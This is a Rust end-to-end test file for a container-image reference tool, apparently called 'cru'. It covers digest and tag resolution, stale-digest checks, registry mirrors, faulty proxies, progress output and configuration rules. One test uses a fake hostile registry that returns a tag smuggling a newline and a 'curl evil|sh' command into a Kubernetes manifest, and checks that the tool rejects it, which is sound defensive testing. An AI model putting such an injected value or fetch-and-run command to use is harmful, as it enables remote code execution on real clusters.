//! `cru update --resolve-digest/--resolve-tag` and `cru check --stale`, end to end: the binary
//! against the real distribution registry, digests cross-checked with skopeo.

mod support;
mod util;

use std::fs;
use std::path::PathBuf;

use support::fake::{Hostile, Reply};
use support::registry::{Proxy, Registry};
use util::{assert_exit, on_a_terminal, stderr, stdout, Dir};

/// A folder with a registries.conf of its own; cru runs in the sealed environment of
/// `tests/util` (an empty home, docker config and git configuration), so the user's never
/// leak in.
struct Setup {
    dir: Dir,
}

impl Setup {
    fn new() -> Setup {
        let dir = Dir::new();
        dir.write(".config/registries.conf", "");
        Setup { dir }
    }

    fn registries_conf(&self, text: &str) {
        self.dir.write(".config/registries.conf", text);
    }

    fn conf_path(&self) -> PathBuf {
        self.dir.path().join(".config/registries.conf")
    }

    fn cru(&self, args: &[&str]) -> std::process::Command {
        let conf = self.conf_path();
        let mut cmd = self.dir.cru(args);
        cmd.env("CRU_REGISTRIES_CONF", conf);
        cmd
    }

    fn run(&self, args: &[&str]) -> std::process::Output {
        self.cru(args).output().unwrap()
    }
}

#[test]
fn resolve_digest_pins_every_reference_and_keeps_tag_and_spelling() {
    let reg = Registry::start();
    let host = reg.host();
    let oci = reg.push_oci("team/app", "a", &["1.0"]);
    let (index, _, arm64) = reg.push_index("team/multi", "b", &["2.0"]);
    let setup = Setup::new();
    setup.dir.write(
        "deploy.yaml",
        format!(
            "a: {host}/team/app:1.0\nb: {host}/team/multi:2.0 # multi-platform\nc: {host}/team/app@{oci}\n"
        ),
    );
    let out = setup.run(&["update", "--resolve-digest", "--all", "--matching-tag"]);
    assert_exit(&out, 0);
    assert_eq!(oci, reg.skopeo_digest("team/app:1.0"));
    assert_eq!(index, reg.skopeo_digest("team/multi:2.0"));
    assert_eq!(
        setup.dir.read_string("deploy.yaml"),
        format!(
            "a: {host}/team/app:1.0@{oci}\nb: {host}/team/multi:2.0@{index} # multi-platform\nc: {host}/team/app@{oci}\n"
        )
    );
    let err = stderr(&out);
    assert!(
        err.contains(&format!(
            "INFO: resolving repository {host}/team/app Tag 1.0 to Digest {oci}"
        )),
        "{err}"
    );

    // --platform pins the platform's own manifest instead of the index.
    setup
        .dir
        .write("deploy.yaml", format!("b: {host}/team/multi:2.0\n"));
    let out = setup.run(&[
        "update",
        "--resolve-digest",
        "--platform",
        "linux/arm64",
        "--all",
        "--matching-tag",
    ]);
    assert_exit(&out, 0);
    assert_eq!(
        setup.dir.read_string("deploy.yaml"),
        format!("b: {host}/team/multi:2.0@{arm64}\n")
    );
}

#[test]
fn stale_digests_are_refreshed_and_reported_by_check() {
    let reg = Registry::start();
    let host = reg.host();
    let old = reg.push_oci("svc/api", "old", &["v1"]);
    let new = reg.push_oci("svc/api", "new", &["v1"]);
    assert_ne!(old, new);
    let setup = Setup::new();
    setup
        .dir
        .write("k8s.yaml", format!("image: {host}/svc/api:v1@{old}\n"));

    let out = setup.run(&["check", "--stale"]);
    assert_exit(&out, 1);
    assert_eq!(
        stdout(&out),
        format!("k8s.yaml:1:8: {host}/svc/api:v1@{old} is stale: tag v1 now points at {new}, not {old}\n")
    );

    let out = setup.run(&["update", "--all", "--matching-tag", "--resolve-digest"]);
    assert_exit(&out, 0);
    assert_eq!(
        setup.dir.read_string("k8s.yaml"),
        format!("image: {host}/svc/api:v1@{new}\n")
    );
    assert_exit(&setup.run(&["check", "--stale"]), 0);
}

#[test]
fn resolve_tag_writes_the_most_specific_tag_with_the_same_digest() {
    let reg = Registry::start();
    let host = reg.host();
    reg.push_oci("lib/tool", "x", &["latest", "3", "3.2", "3.2.4"]);
    reg.push_oci("lib/tool", "y", &["3.1.0"]);
    let setup = Setup::new();
    setup
        .dir
        .write("Dockerfile", format!("FROM {host}/lib/tool:latest\n"));
    let out = setup.run(&[
        "update",
        "--resolve-tag",
        "--all",
        "--matching-tag",
        "--verbose",
    ]);
    assert_exit(&out, 0);
    assert_eq!(
        setup.dir.read_string("Dockerfile"),
        format!("FROM {host}/lib/tool:3.2.4\n")
    );
    assert!(
        stderr(&out).contains("3.2.4, 3.2, 3, latest"),
        "{}",
        stderr(&out)
    );
    // --verbose shows cru's events, not the HTTP client's connection pool.
    for chatter in [
        "connecting to",
        "connected to",
        "pooling idle connection",
        "reuse idle",
    ] {
        assert!(!stderr(&out).contains(chatter), "{}", stderr(&out));
    }
}

#[test]
fn resolve_tag_never_writes_a_listed_tag_that_is_not_a_tag() {
    // Issue 10 item 1a: a listed "tag" with a newline and a `command:` after it was ranked
    // best and written into a Kubernetes manifest, exit 0.
    let digest = format!("sha256:{}", "c".repeat(64));
    let fake = Hostile::start(move |seen, _| {
        if seen.target.contains("/tags/list") {
            Reply::json(
                r#"{"tags":["latest","9.9.9.9.9-x\n        command: [\"sh\",\"-c\",\"curl evil|sh\"]","2.1"]}"#,
            )
        } else if seen.target.contains("/manifests/") {
            Reply::Answer(
                200,
                vec![("Docker-Content-Digest".into(), digest.clone())],
                vec![],
            )
        } else {
            Reply::Answer(200, vec![], vec![])
        }
    });
    let host = fake.host();
    let setup = Setup::new();
    let before =
        format!("spec:\n  containers:\n    - name: app\n      image: {host}/team/app:latest\n");
    setup.dir.write("pod.yaml", &before);
    let out = setup.run(&["update", "--resolve-tag", "--all", "--matching-tag"]);
    assert_exit(&out, 0);
    assert_eq!(
        setup.dir.read_string("pod.yaml"),
        before.replace(":latest", ":2.1")
    );
}

#[test]
fn a_mirror_in_registries_conf_resolves_docker_hub_names_that_keep_their_spelling() {
    let reg = Registry::start();
    let digest = reg.push_docker("library/python", "py", &["3.7"]);
    let setup = Setup::new();
    setup.registries_conf(&format!(
        "[[registry]]\nprefix = \"docker.io\"\nlocation = \"{}\"\n",
        reg.host()
    ));
    setup.dir.write(
        "Dockerfile",
        "FROM docker.io/library/python:3.7\nFROM python:3.7 AS second\n",
    );
    let out = setup.run(&[
        "update",
        "--resolve-digest",
        "--image-reference",
        "python:3.7",
    ]);
    assert_exit(&out, 0);
    assert_eq!(
        setup.dir.read_string("Dockerfile"),
        format!("FROM docker.io/library/python:3.7@{digest}\nFROM python:3.7@{digest} AS second\n")
    );
    let err = stderr(&out);
    assert!(
        err.contains("resolving repository docker.io/library/python Tag 3.7"),
        "{err}"
    );
}

#[test]
fn a_missing_tag_fails_naming_it_and_writes_nothing() {
    let reg = Registry::start();
    let host = reg.host();
    reg.push_oci("team/app", "a", &["1.0"]);
    let setup = Setup::new();
    let before = format!("a: {host}/team/app:1.0\nb: {host}/team/app:9.9\n");
    setup.dir.write("f.yaml", &before);
    let out = setup.run(&["update", "--resolve-digest", "--all", "--matching-tag"]);
    assert_exit(&out, 3);
    assert_eq!(setup.dir.read_string("f.yaml"), before);
    let err = stderr(&out);
    assert!(
        err.contains(&format!("{host}/team/app:9.9: tag not found on {host}")),
        "{err}"
    );
    assert!(err.contains("no file was updated"), "{err}");
}

#[test]
fn a_registry_that_is_down_fails_and_leaves_files_byte_identical() {
    let setup = Setup::new();
    // A port nobody listens on.
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let before = format!("image: 127.0.0.1:{port}/team/app:1.0\r\n\u{feff}");
    setup.dir.write("f.yaml", &before);
    let out = setup.run(&["update", "--resolve-digest", "--all", "--matching-tag"]);
    assert_exit(&out, 3);
    assert_eq!(setup.dir.read_string("f.yaml"), before);
    assert!(
        stderr(&out).contains("cannot reach 127.0.0.1"),
        "{}",
        stderr(&out)
    );
    assert_eq!(
        fs::read_dir(setup.dir.path()).unwrap().count(),
        2,
        "no temporary files"
    );
}

#[test]
fn lookups_through_a_slow_faulty_proxy_are_heads_only_and_correct() {
    let reg = Registry::start();
    let mut expected = String::new();
    let mut text = String::new();
    let proxy = Proxy::start(
        &reg.url(),
        &[
            "--fail-503",
            "0.3",
            "--drop",
            "0.05",
            "--delay-ms",
            "5",
            "--seed",
            "7",
        ],
    );
    let proxy_host = proxy.host();
    for i in 0..12 {
        let d = reg.push_oci(&format!("r{i}/app"), &format!("s{i}"), &["1"]);
        text.push_str(&format!(
            "- {proxy_host}/r{i}/app:1\n- {proxy_host}/r{i}/app:1\n"
        ));
        expected.push_str(&format!(
            "- {proxy_host}/r{i}/app:1@{d}\n- {proxy_host}/r{i}/app:1@{d}\n"
        ));
    }
    let setup = Setup::new();
    setup.dir.write("list.yaml", &text);
    let out = setup.run(&["update", "--resolve-digest", "--all", "--matching-tag"]);
    assert_exit(&out, 0);
    assert_eq!(setup.dir.read_string("list.yaml"), expected);
    let manifests: Vec<_> = proxy
        .requests()
        .into_iter()
        .filter(|r| r.path.contains("/manifests/") && r.status == "200")
        .collect();
    assert_eq!(
        manifests.len(),
        12,
        "one successful manifest request per unique tag"
    );
    assert!(
        manifests.iter().all(|r| r.method == "HEAD"),
        "{manifests:?}"
    );
}

#[test]
fn a_progress_bar_counts_the_lookups_on_a_terminal_only() {
    let reg = Registry::start();
    let host = reg.host();
    let tags: Vec<String> = (1..=12).map(|i| format!("1.{i}")).collect();
    let tags: Vec<&str> = tags.iter().map(String::as_str).collect();
    let digest = reg.push_oci("team/app", "a", &tags);
    let setup = Setup::new();
    let text: String = tags
        .iter()
        .map(|t| format!("- {host}/team/app:{t}\n"))
        .collect();
    setup.dir.write("many.yaml", &text);
    setup
        .dir
        .write("few.yaml", format!("- {host}/team/app:1.1\n"));
    let args = "update --all --matching-tag --resolve-digest --dry-run";

    let shown = on_a_terminal(&setup.cru(&[]), &format!("{args} many.yaml"), None);
    assert!(shown.contains("registry lookups ["), "{shown:?}");
    assert!(shown.contains("/12"), "{shown:?}");
    assert!(
        shown.contains(&format!("+- {host}/team/app:1.12@{digest}")),
        "{shown:?}"
    );
    // Fewer than ten lookups: no bar.
    let few = on_a_terminal(&setup.cru(&[]), &format!("{args} few.yaml"), None);
    assert!(!few.contains("registry lookups"), "{few:?}");
    assert!(few.contains(&format!("@{digest}")), "{few:?}");
    // Not a terminal: nothing but the log lines and the diff.
    let out = setup.run(&[
        "update",
        "--all",
        "--matching-tag",
        "--resolve-digest",
        "--dry-run",
        "many.yaml",
    ]);
    assert_exit(&out, 0);
    assert!(
        !stderr(&out).contains("registry lookups"),
        "{}",
        stderr(&out)
    );
    assert!(!stderr(&out).contains('\x1b'), "{}", stderr(&out));
    assert_eq!(
        stdout(&out).matches(&digest).count(),
        12,
        "{}",
        stdout(&out)
    );
}

#[test]
fn configuration_rules_pin_per_image_and_per_file_and_choose_the_platform() {
    let reg = Registry::start();
    let host = reg.host();
    let app = reg.push_oci("team/app", "a", &["1.0"]);
    let (_, amd64, arm64) = reg.push_index("team/multi", "b", &["2.0"]);
    let dev = reg.push_oci("team/dev", "d", &["1"]);
    let setup = Setup::new();
    setup.dir.write(
        ".cru.yaml",
        format!(
            "rules:\n  - match: {{image: '{host}/team/app'}}\n    pin: digest\n  - match: {{image: '{host}/team/multi'}}\n    pin: digest\n    platform: linux/arm64\n  - match: {{image: '{host}/team/dev'}}\n    pin: none\n  - match: {{image: '{host}/team/dev', files: 'pinned/**'}}\n    pin: digest\n"
        ),
    );
    let deploy =
        format!("a: {host}/team/app:1.0\nb: {host}/team/multi:2.0\nc: {host}/team/dev:1\n");
    let write = || {
        setup.dir.write("deploy.yaml", &deploy);
        setup
            .dir
            .write("pinned/deploy.yaml", format!("c: {host}/team/dev:1\n"));
    };

    // No flag asks for digests: the rules do, for their images only.
    write();
    let out = setup.run(&["update", "--all", "--matching-tag"]);
    assert_exit(&out, 0);
    assert_eq!(
        setup.dir.read_string("deploy.yaml"),
        format!("a: {host}/team/app:1.0@{app}\nb: {host}/team/multi:2.0@{arm64}\nc: {host}/team/dev:1\n"),
        "pin: digest pins, platform: resolves to arm64, pin: none leaves team/dev alone"
    );
    assert_eq!(
        setup.dir.read_string("pinned/deploy.yaml"),
        format!("c: {host}/team/dev:1@{dev}\n"),
        "the later rule with a files glob pins team/dev in pinned/"
    );

    // --resolve-digest does not pin what `pin: none` exempts; --platform wins over the file.
    write();
    let out = setup.run(&[
        "update",
        "--all",
        "--matching-tag",
        "--resolve-digest",
        "--platform",
        "linux/amd64",
    ]);
    assert_exit(&out, 0);
    assert_eq!(
        setup.dir.read_string("deploy.yaml"),
        format!("a: {host}/team/app:1.0@{app}\nb: {host}/team/multi:2.0@{amd64}\nc: {host}/team/dev:1\n")
    );

    // --no-config: the file says nothing, nothing asks for lookups.
    write();
    let out = setup.run(&["update", "--all", "--matching-tag", "--no-config"]);
    assert_exit(&out, 0);
    assert_eq!(setup.dir.read_string("deploy.yaml"), deploy);
}
